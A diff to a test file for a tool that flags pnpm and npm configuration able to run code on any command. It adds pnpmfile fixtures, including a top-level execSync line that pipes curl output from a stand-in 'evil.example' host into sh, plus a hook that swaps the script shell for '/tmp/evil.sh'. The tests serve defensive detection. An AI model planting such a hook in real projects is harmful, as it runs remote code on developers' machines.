@@ -34,6 +34,17 @@ const uncertain = (command: string, files: Record<string, string>, cwd = P) => {
   return a.uncertain.some((u) => /reads a|\.npmrc|pnpmfile|configuration|conftest/.test(u.reason));
 };
 
+/** pnpmfiles: code at the top level, a hook run on every command, hooks named at run time, an imported plugin. */
+const HOSTILE_TOP =
+  "require('child_process').execSync('curl -s https://evil.example/x | sh');\nmodule.exports = {};\n";
+const UPDATE_CONFIG =
+  "module.exports = { hooks: { updateConfig: (config) => ({ ...config, scriptShell: '/tmp/evil.sh' }) } };\n";
+const COMPUTED = "const k = 'update' + 'Conf' + 'ig';\nmodule.exports = { hooks: { [k]: (c) => c } };\n";
+const PLUGIN = "module.exports = require('pnpm-plugin-evil');\n";
+/** An ordinary pnpmfile: a readPackage hook pinning a dependency. */
+const INERT_HOOKS =
+  "function readPackage(pkg) {\n  if (pkg.name === 'vite-node' && pkg.dependencies) pkg.dependencies.vite = '^5.4.11';\n  return pkg;\n}\nmodule.exports = { hooks: { readPackage } };\n";
+
 beforeAll(async () => {
   await loadShellParser();
 });
@@ -50,14 +61,36 @@ describe('a setting that runs a shell or code from elsewhere is uncertain', () =
       { '.npmrc': 'globalconfig=/tmp/g', 'pkg/package.json': MANIFEST },
     ],
     // pnpm 10 loads the root's .pnpmfile.cjs on every command (checked with pnpm 10.34: `--version`, `ls`, `run`).
-    ['.pnpmfile.cjs on pnpm --version', 'pnpm --version', { '.pnpmfile.cjs': 'module.exports = {}\n' }],
-    ['.pnpmfile.cjs on a script', 'pnpm build', { '.pnpmfile.cjs': 'module.exports = {}\n' }],
+    // Its install hooks run only on installs; its top level and `updateConfig` on every command (pnpmfile-hooks.ts).
+    ['.pnpmfile.cjs on pnpm --version', 'pnpm --version', { '.pnpmfile.cjs': HOSTILE_TOP }],
+    ['.pnpmfile.cjs on a script', 'pnpm build', { '.pnpmfile.cjs': HOSTILE_TOP }],
+    ['.pnpmfile.cjs updateConfig on a script', 'pnpm test', { '.pnpmfile.cjs': UPDATE_CONFIG }],
+    ['.pnpmfile.cjs a computed hook name', 'pnpm build', { '.pnpmfile.cjs': COMPUTED }],
+    ['.pnpmfile.cjs a computed hook name, pnpm exec', 'pnpm exec tsc', { '.pnpmfile.cjs': COMPUTED }],
+    ['.pnpmfile.cjs a plugin it requires', 'pnpm test', { '.pnpmfile.cjs': PLUGIN }],
+    ['.pnpmfile.cjs an inert file on an install', 'pnpm install', { '.pnpmfile.cjs': INERT_HOOKS }],
+    [
+      'an inert .pnpmfile.cjs, a script run that installs first',
+      'pnpm test',
+      { '.pnpmfile.cjs': INERT_HOOKS, 'pnpm-workspace.yaml': 'verifyDepsBeforeRun: install\n' },
+    ],
+    ['.npmrc verify-deps-before-run=install', 'pnpm test', { '.npmrc': 'verify-deps-before-run=install\n' }],
+    ['.pnpmfile.cjs an inert file on an add', 'pnpm add left-pad', { '.pnpmfile.cjs': INERT_HOOKS }],
+    [
+      '.pnpmfile.cjs an inert file, a command word at run time',
+      'pnpm "$C"',
+      { '.pnpmfile.cjs': INERT_HOOKS },
+    ],
     [
       '.pnpmfile.cjs of the workspace from a package',
       'cd pkg && pnpm ls',
-      { '.pnpmfile.cjs': 'module.exports = {}\n', 'pkg/package.json': MANIFEST },
+      { '.pnpmfile.cjs': HOSTILE_TOP, 'pkg/package.json': MANIFEST },
     ],
-    ['.pnpmfile.mjs', 'pnpm why react', { '.pnpmfile.mjs': 'export const hooks = {}\n' }],
+    [
+      '.pnpmfile.mjs',
+      'pnpm why react',
+      { '.pnpmfile.mjs': 'export const hooks = { updateConfig: (c) => c }\n' },
+    ],
     ['.npmrc pnpmfile', 'pnpm --version', { '.npmrc': 'pnpmfile=hooks/x.cjs\n' }],
     ['.npmrc global-pnpmfile', 'pnpm ls', { '.npmrc': 'global-pnpmfile=/tmp/x.cjs\n' }],
     // pnpm-workspace.yaml's settings, as pnpm 10 reads them (camelCase).
@@ -144,7 +177,7 @@ describe('a setting that runs a shell or code from elsewhere is uncertain', () =
       { '.npmrc': 'node-options=--require ./x.cjs\n' },
     ],
     ['npm exec of a tool', 'npm exec -- eslint .', { '.npmrc': 'node-options=--require ./x.cjs\n' }],
-    ['pnpm exec under a .pnpmfile.cjs', 'pnpm exec tsc -p .', { '.pnpmfile.cjs': 'module.exports = {}\n' }],
+    ['pnpm exec under a .pnpmfile.cjs', 'pnpm exec tsc -p .', { '.pnpmfile.cjs': UPDATE_CONFIG }],
     [
       'bunx under a preload from elsewhere',
       'bunx prettier --check .',
@@ -303,6 +336,16 @@ describe('ordinary configuration stays quiet', () => {
       },
     ],
     ['.npmrc bash as the script shell', 'npm test', { '.npmrc': 'script-shell=/bin/bash\n' }],
+    ['an inert .pnpmfile.cjs on a script (round 28)', 'pnpm test', { '.pnpmfile.cjs': INERT_HOOKS }],
+    ['an inert .pnpmfile.cjs on a filtered build', 'pnpm -F @app/ui build', { '.pnpmfile.cjs': INERT_HOOKS }],
+    [
+      'an inert .pnpmfile.cjs on a bin',
+      'pnpm turbo run build --filter=web',
+      { '.pnpmfile.cjs': INERT_HOOKS },
+    ],
+    ['an inert .pnpmfile.cjs on exec', 'pnpm exec tsc --noEmit', { '.pnpmfile.cjs': INERT_HOOKS }],
+    ['an inert .pnpmfile.cjs on a listing', 'pnpm ls --depth 0', { '.pnpmfile.cjs': INERT_HOOKS }],
+    ['an inert .pnpmfile.cjs on the version', 'pnpm --version', { '.pnpmfile.cjs': INERT_HOOKS }],
     [
       'pnpm-workspace.yaml packages, catalogs and built dependencies',
       'pnpm test',
@@ -462,7 +505,8 @@ describe('settings of what a manager starts, on a command that starts nothing', 
     expect(uncertain('npm --prefix web test', { 'web/.npmrc': 'save-exact=true\n' })).toBe(false);
   });
   it('a pnpmfile runs on every pnpm command, listing ones too', () => {
-    expect(uncertain('pnpm ls', { '.pnpmfile.cjs': 'module.exports = {}\n' })).toBe(true);
+    expect(uncertain('pnpm ls', { '.pnpmfile.cjs': HOSTILE_TOP })).toBe(true);
+    expect(uncertain('pnpm ls', { '.pnpmfile.cjs': UPDATE_CONFIG })).toBe(true);
     expect(uncertain('pnpm ls', { 'pnpm-workspace.yaml': 'nodeOptions: "--require ./x.cjs"\n' })).toBe(false);
     expect(uncertain('pnpm test', { 'pnpm-workspace.yaml': 'nodeOptions: "--require ./x.cjs"\n' })).toBe(
       true,
